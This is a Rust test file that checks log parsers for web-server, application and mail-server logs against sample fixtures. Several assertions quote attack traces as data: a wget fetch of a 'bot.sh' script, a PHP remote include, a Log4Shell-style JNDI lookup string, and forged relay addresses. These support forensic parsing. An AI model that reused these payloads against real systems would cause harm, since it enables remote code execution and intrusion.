//! What the readers of error logs, application logs and mail servers' logs make of their fixtures.

mod common;

use abate_model::LossKind::{Malformed, OverLimit};
use abate_model::rows::{AuthOutcome, Authentication, EmailActivity, TimedText};
use abate_model::{Body, ZoneCertainty};
use common::{FIXTURES, Source, fixture, single, span};

fn text(source: &Source, n: usize) -> &TimedText<'static> {
    match source.bodies()[n] {
        Body::Text(text) => text,
        other => panic!("row {n} is {other:?}"),
    }
}

fn mail(source: &Source, n: usize) -> &EmailActivity<'static> {
    match source.bodies()[n] {
        Body::Email(mail) => mail,
        other => panic!("row {n} is {other:?}"),
    }
}

fn auth(source: &Source, n: usize) -> &Authentication<'static> {
    match source.bodies()[n] {
        Body::Auth(auth) => auth,
        other => panic!("row {n} is {other:?}"),
    }
}

fn times(source: &Source) -> Vec<String> {
    source.times().into_iter().map(|t| t.unwrap_or_default()).collect()
}

fn address(address: Option<std::net::IpAddr>) -> String {
    address.map(|a| a.to_string()).unwrap_or_default()
}

/// Status, queue id, from, to, client, relay's address.
fn brief(mail: &EmailActivity<'_>) -> [String; 6] {
    let word = |text: &Option<std::borrow::Cow<'_, str>>| text.as_deref().unwrap_or_default().to_owned();
    [mail.status.to_string(), word(&mail.queue_id), word(&mail.from), mail.to.join(" "), address(mail.client), address(mail.relay_address)]
}

#[test]
fn apache_errors() {
    let s = fixture("apache-error", "v24");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![]), "{:?}", s.end.losses);
    let denied = text(&s, 0);
    assert_eq!((denied.program.as_deref(), denied.pid, denied.host.as_deref()), (Some("apache"), Some(17512), None));
    assert!(denied.message.starts_with("[access_compat:error] [pid 17512:tid 140123104306944] [client 203.0.113.9:51380] AH01797: "));
    assert!(text(&s, 1).message.ends_with("/x\n--2026-11-20 01:00:01--  http://203.0.113.66/bot.sh\n\nSaving to: 'bot.sh'"));
    // A line whose time does not parse begins no record and so is not lost.
    assert!(text(&s, 2).message.ends_with("\n[Fri Nov 20 25:00:03 2026] [error] x"));
    assert_eq!(times(&s)[..2], ["2026-11-20T01:00:00.453232Z", "2026-11-20T01:00:01.453232Z"]);
    assert!(s.rows.iter().all(|r| r.0.zone == ZoneCertainty::Assumed));
    let s = fixture("apache-error", "v22");
    assert_eq!((s.rows.len(), s.losses()), (2, vec![]));
    assert_eq!(text(&s, 0).message, "[error] [client 203.0.113.9] File does not exist: /var/www/phpmyadmin\r\ncontinued");
    assert_eq!(text(&s, 1).pid, None);
}

#[test]
fn nginx_and_php_errors() {
    let s = fixture("nginx-error", "nginx");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]), "{:?}", s.end.losses);
    let first = text(&s, 0);
    assert_eq!((first.program.as_deref(), first.pid), (Some("nginx"), Some(2865)));
    assert!(first.message.starts_with("[error] 2865#0: *66647 user \"xyz\"") && first.message.contains("client: 203.0.113.9, "));
    assert!(text(&s, 1).message.contains("\n#0 {main}\" while reading"));
    assert_eq!(times(&s), ["2026-11-20T01:00:00Z", "2026-11-20T01:00:01Z", "2026-11-20T01:00:02Z"]);
    let s = fixture("php-error", "php");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![]));
    assert!(text(&s, 0).message.starts_with("PHP Warning:  include(http://203.0.113.66/x.txt)"));
    assert!(text(&s, 1).message.ends_with("#1 {main}\n  thrown in /var/www/a.php on line 1"));
    assert_eq!((text(&s, 2).program.as_deref(), text(&s, 2).message.as_ref()), (Some("php"), "NOTICE: fpm is running, pid 1"));
    assert_eq!(times(&s), ["2026-11-20T01:00:00Z", "2026-11-20T01:00:01Z", "2026-11-20T01:00:02Z"]);
    let stated: Vec<bool> = s.rows.iter().map(|r| r.0.zone == ZoneCertainty::Stated).collect();
    assert_eq!(stated, [true, true, false]);
}

#[test]
fn application_logs() {
    let s = fixture("timed-lines", "java");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![]));
    assert!(text(&s, 0).message.starts_with("INFO [main] org.apache") && text(&s, 0).program.is_none());
    assert!(text(&s, 1).message.ends_with("Caused by: java.lang.Error\n\n\t\tat com.example.C.d(C.java:2)"));
    assert_eq!(times(&s)[1], "2026-11-20T01:00:01.123Z");
    let s = fixture("timed-lines", "app");
    assert_eq!((s.rows.len(), s.losses()), (3, vec![(Malformed, 1)]));
    assert!(text(&s, 1).message.ends_with("ValueError: x"));
    assert_eq!(times(&s), ["2026-11-19T16:00:00Z", "2026-11-20T01:00:01.5Z", "2026-11-19T16:00:02Z"]);
    let s = fixture("timed-lines", "python");
    assert_eq!((s.rows.len(), s.losses()), (4, vec![]));
    assert!(text(&s, 1).message.ends_with("ValueError: ${jndi:ldap://203.0.113.66/a}"));
    assert_eq!(times(&s)[1..], ["2026-11-20T01:00:01.123Z", "2026-11-20T01:00:02Z", "2026-11-20T01:00:03.5Z"]);
    // Which number is the day shows in the first line alone.
    let s = single("x", b"20/11/2026 01:00:00 - started\n05/11/2026 01:00:01 | failed\n");
    assert_eq!(times(&s), ["2026-11-20T01:00:00Z", "2026-11-05T01:00:01Z"]);
    assert_eq!((text(&s, 0).message.as_ref(), text(&s, 1).message.as_ref()), ("started", "failed"));
    assert_eq!(times(&fixture("timed-lines", "us")), ["2026-11-05T13:00:00Z", "2026-11-06T13:00:01Z"]);
}

#[test]
fn the_last_resort_takes_nothing_from_others() {
    let all = abate_evidence::readers::all();
    assert_eq!(all.last().map(|r| r.id), Some("timed-lines"));
    for (id, name, bytes) in FIXTURES.iter().filter(|f| f.0 != "timed-lines") {
        assert_eq!(single(name, bytes).end.format, Some(*id), "{name}");
    }
    assert_eq!(single("x", b"notes of 2026-11-20\nnothing here begins with a time\n").end.format, None);
}

#[test]
fn joined_records_are_exact_and_bounded() {
    for name in ["v24", "v22"] {
        let bytes = FIXTURES.iter().find(|f| f.1 == name).unwrap().2;
        for (row, raw) in &single(name, bytes).rows {
            assert_eq!(&bytes[span(row.locator)], raw.as_slice());
        }
    }
    let mut long = b"2026/11/20 01:00:00 [error] 1#1: x\n".repeat(5);
    for _ in 0..40 {
        long.extend(std::iter::repeat_n(b'y', 40_000));
        long.push(b'\n');
    }
    long.extend_from_slice(b"2026/11/20 01:00:01 [error] 1#1: z\n2026/11/20 01:00:02 [error] 1#1: z\n");
    let s = single("long", &long);
    assert_eq!((s.end.format, s.rows.len(), s.losses()), (Some("nginx-error"), 7, vec![(OverLimit, 14)]));
    let lost: u64 = s.end.losses.iter().map(|l| l.bytes).sum();
    let kept: usize = s.rows.iter().map(|r| r.1.len()).sum();
    assert_eq!(lost as usize + kept + 14 + 7, long.len(), "every byte but line ends is accounted for");
}

#[test]
fn postfix() {
    let s = fixture("syslog", "mail");
    assert_eq!((s.rows.len(), s.losses()), (19, vec![]));
    assert_eq!(brief(mail(&s, 0)), ["connected", "", "", "", "203.0.113.9", ""]);
    assert_eq!(
        (mail(&s, 0).client_name.as_deref(), mail(&s, 0).host.as_deref(), mail(&s, 0).pid),
        (Some("client.example.com"), Some("mx1"), Some(14398))
    );
    assert_eq!(brief(mail(&s, 1)), ["received", "3E4A547BDE4", "", "", "203.0.113.9", ""]);
    assert_eq!(mail(&s, 1).login_user.as_deref(), Some("alice@example.com"));
    assert_eq!((mail(&s, 2).message_id.as_deref(), mail(&s, 2).status.as_ref()), (Some("f642@example.com"), "received"));
    assert_eq!(brief(mail(&s, 3)), ["received", "3E4A547BDE4", "alice@example.com", "bob@example.net", "203.0.113.9", ""]);
    assert_eq!(mail(&s, 3).subject.as_deref(), Some("You won from nobody"));
    assert_eq!(
        (brief(mail(&s, 4)), mail(&s, 4).size),
        (["queued", "3E4A547BDE4", "alice@example.com", "", "", ""].map(str::to_owned), Some(1883))
    );
    assert_eq!(brief(mail(&s, 5)), ["sent", "3E4A547BDE4", "", "bob@example.net", "", "198.51.100.25"]);
    assert_eq!((mail(&s, 5).relay.as_deref(), mail(&s, 5).dsn.as_deref()), (Some("mx.example.net"), Some("2.6.0")));
    assert_eq!(mail(&s, 5).reason.as_deref(), Some("250 2.6.0 <f642@example.com> Queued, status=fine"));
    assert_eq!(
        (brief(mail(&s, 6)), mail(&s, 6).relay.as_deref()),
        (["deferred", "3E4A547BDE5", "", "c@example.net", "", ""].map(str::to_owned), None)
    );
    assert_eq!(mail(&s, 7).status, "removed");
    assert_eq!(brief(mail(&s, 8)), ["rejected", "", "a@example.com", "x@example.org", "2001:db8::9", ""]);
    assert_eq!(
        (mail(&s, 8).dsn.as_deref(), mail(&s, 8).reason.as_deref()),
        (Some("5.7.1"), Some("554 5.7.1 <x@example.org>: Relay access denied"))
    );
    assert_eq!(brief(mail(&s, 9)), ["rejected", "", "s@example.com", "g@example.com", "203.0.113.9", ""]);
    assert!(mail(&s, 9).reason.as_deref().unwrap().starts_with("550 5.7.1 Service unavailable; client [203.0.113.9] blocked"));
    let failed = auth(&s, 10);
    assert_eq!((failed.service.as_ref(), failed.outcome, failed.method.as_deref()), ("postfix", AuthOutcome::Failure, Some("LOGIN")));
    assert_eq!((failed.user.as_deref(), address(failed.source)), (Some("admin"), "203.0.113.9".to_owned()));
    assert!(failed.message.starts_with("warning: unknown[203.0.113.9]"));
    assert_eq!(
        (brief(mail(&s, 11)), mail(&s, 11).reason.as_deref()),
        (["received", "3E4A547BDE6", "apache", "", "", ""].map(str::to_owned), Some("uid=48"))
    );
    assert_eq!(text(&s, 12).program.as_deref(), Some("postfix/master"));
    assert_eq!(times(&s)[5], "2026-11-20T01:00:03Z");
}

#[test]
fn sendmail() {
    let s = fixture("syslog", "mail");
    assert_eq!(brief(mail(&s, 13)), ["received", "0AK100ab001234", "www@example.com", "", "203.0.113.9", ""]);
    assert_eq!((mail(&s, 13).size, mail(&s, 13).message_id.as_deref()), (Some(512), Some("1@example.com")));
    assert_eq!(mail(&s, 13).client_name.as_deref(), Some("client.example.com"));
    assert_eq!(brief(mail(&s, 14)), ["sent", "0AK100ab001234", "", "a@example.net b@example.net", "", "198.51.100.25"]);
    assert_eq!((mail(&s, 14).reason.as_deref(), mail(&s, 14).relay.as_deref()), (Some("Sent (ok 1, queued)"), Some("mx.example.net")));
    assert_eq!((mail(&s, 15).status.as_ref(), mail(&s, 15).dsn.as_deref()), ("bounced", Some("5.1.1")));
    assert_eq!(brief(mail(&s, 16)), ["rejected", "0AK100ab001236", "", "x@example.org", "203.0.113.9", ""]);
    assert_eq!((auth(&s, 17).outcome, auth(&s, 17).user.as_deref()), (AuthOutcome::Success, Some("alice")));
    assert_eq!((auth(&s, 17).method.as_deref(), address(auth(&s, 17).source)), (Some("PLAIN"), "203.0.113.9".to_owned()));
    assert_eq!(brief(mail(&s, 18)), ["sent", "1h5xyz-0001Ab-CD", "", "a@example.net", "", "198.51.100.25"]);
}

#[test]
fn words_of_a_client_forge_no_address() {
    let read = |lines: &str| single("x", lines.as_bytes());
    let s = read(concat!(
        "2026-11-20 01:00:00 1h5xyz-0001Ab-CD <= \"a H=x [192.0.2.1] A=p:root\"@example.com H=(y[192.0.2.2]) [203.0.113.9]:1 P=esmtp S=1\n",
        "2026-11-20 01:00:01 login authenticator failed for (z[192.0.2.3]) [203.0.113.9]: 535 Incorrect authentication data (set_id=a)\n",
    ));
    assert_eq!((address(mail(&s, 0).client), mail(&s, 0).login_user.as_deref()), ("203.0.113.9".to_owned(), None));
    assert_eq!(mail(&s, 0).from.as_deref(), Some("\"a H=x [192.0.2.1] A=p:root\"@example.com"));
    assert_eq!(address(auth(&s, 1).source), "203.0.113.9");
    let s = read(concat!(
        "Nov 20 01:00:00 h sendmail[1]: 0AK100ab001234: from=<relay=[192.0.2.1], relay=x>, size=1, relay=y [203.0.113.9]\n",
        "Nov 20 01:00:01 h sendmail[1]: 0AK100ab001234: to=<a@b>, relay=y [203.0.113.9], dsn=5.0.0, stat=no, relay=[192.0.2.1]\n",
        "Nov 20 01:00:02 h postfix/smtpd[1]: disconnect from unknown[203.0.113.9] ehlo=1 auth=0/1 quit=1 commands=2/3\n",
        "Nov 20 01:00:03 h postfix/smtpd[1]: lost connection after AUTH from unknown[203.0.113.9]\n",
    ));
    assert_eq!((address(mail(&s, 0).client), address(mail(&s, 1).relay_address)), ("203.0.113.9".to_owned(), "203.0.113.9".to_owned()));
    assert_eq!((mail(&s, 2).status.as_ref(), mail(&s, 2).reason.as_deref()), ("disconnected", Some("ehlo=1 auth=0/1 quit=1 commands=2/3")));
    assert_eq!(
        (mail(&s, 3).status.as_ref(), mail(&s, 3).reason.as_deref()),
        ("disconnected", Some("lost connection after AUTH from unknown[203.0.113.9]"))
    );
}

#[test]
fn exim() {
    let s = fixture("exim", "main");
    assert_eq!((s.rows.len(), s.losses()), (9, vec![(Malformed, 1)]));
    assert_eq!(text(&s, 0).program.as_deref(), Some("exim"));
    let arrived = mail(&s, 1);
    assert_eq!(
        brief(arrived),
        ["received", "1h5xyz-0001Ab-CD", "alice@example.com", "bob@example.net carol@example.net", "203.0.113.9", ""]
    );
    assert_eq!(
        (arrived.login_user.as_deref(), arrived.size, arrived.message_id.as_deref()),
        (Some("alice@example.com"), Some(1883), Some("f642@example.com"))
    );
    assert_eq!(
        (arrived.subject.as_deref(), arrived.client_name.as_deref()),
        (Some(r#"You \"won\" S=1 from x for y"#), Some("client.example.com"))
    );
    let sent = mail(&s, 2);
    assert_eq!(brief(sent), ["sent", "1h5xyz-0001Ab-CD", "", "bob@example.net", "", "198.51.100.25"]);
    assert_eq!((sent.pid, sent.dsn.as_deref(), sent.reason.as_deref()), (Some(1234), Some("2.0.0"), Some("250 2.0.0 OK queued")));
    assert_eq!(mail(&s, 3).reason.as_deref(), Some("(-53): retry time not reached for any host"));
    assert_eq!(brief(mail(&s, 4)), ["bounced", "1h5xyz-00000001AbC-CDEF", "", "dave@example.net", "", "2001:db8::25"]);
    assert_eq!(mail(&s, 4).dsn.as_deref(), Some("5.1.1"));
    assert_eq!(mail(&s, 5).status, "completed");
    assert_eq!(brief(mail(&s, 6)), ["rejected", "", "a@example.com", "x@example.org", "203.0.113.9", ""]);
    assert_eq!((auth(&s, 7).user.as_deref(), address(auth(&s, 7).source)), (Some("admin"), "203.0.113.9".to_owned()));
    assert_eq!((mail(&s, 8).login_user.as_deref(), mail(&s, 8).size), (Some("www-data"), Some(512)));
    assert_eq!(times(&s)[1..3], ["2026-11-20T01:00:01Z", "2026-11-19T16:00:02Z"]);
    assert_eq!((s.rows[1].0.zone, s.rows[2].0.zone), (ZoneCertainty::Assumed, ZoneCertainty::Stated));
}

#[test]
fn logs_of_frameworks_and_databases() {
    let laravel = "[2026-11-20 01:01:10] production.ERROR: no {\"exception\":\"[object] (E(code: 0): no at /var/www/x.php:3)\n[stacktrace]\n\
                   #0 /var/www/y.php(3): x()\n#1 {main}\n\"} \n[2026-11-20 01:01:11] production.INFO: yes  \n";
    let s = single("x", laravel.as_bytes());
    assert_eq!((s.end.format, s.rows.len(), s.losses()), (Some("timed-lines"), 2, vec![]), "{}", s.end.recognised_by);
    assert!(text(&s, 0).message.starts_with("production.ERROR: no ") && text(&s, 0).message.contains("#1 {main}"));
    let redis = "4242:C 20 Nov 2026 01:01:10.123 # Redis is starting\n4242:M 20 Nov 2026 01:01:11.123 * Ready to accept connections\n";
    let s = single("x", redis.as_bytes());
    assert_eq!((s.end.format, s.rows.len(), s.losses()), (Some("timed-lines"), 2, vec![]), "{}", s.end.recognised_by);
    assert_eq!(text(&s, 1).message, "4242:M 20 Nov 2026 01:01:11.123 * Ready to accept connections");
    assert_eq!(times(&s), ["2026-11-20T01:01:10.123Z", "2026-11-20T01:01:11.123Z"]);
    let postgres = "2026-11-20 01:01:10.123 UTC [4242] web@shop FATAL:  password authentication failed for user \"web\"\n";
    let s = single("x", postgres.as_bytes());
    assert_eq!((s.end.format, text(&s, 0).host.as_deref()), (Some("timed-lines"), None), "a zone is no host");
    assert_eq!((times(&s), s.rows[0].0.zone), (vec!["2026-11-20T01:01:10.123Z".to_owned()], ZoneCertainty::Stated));
}
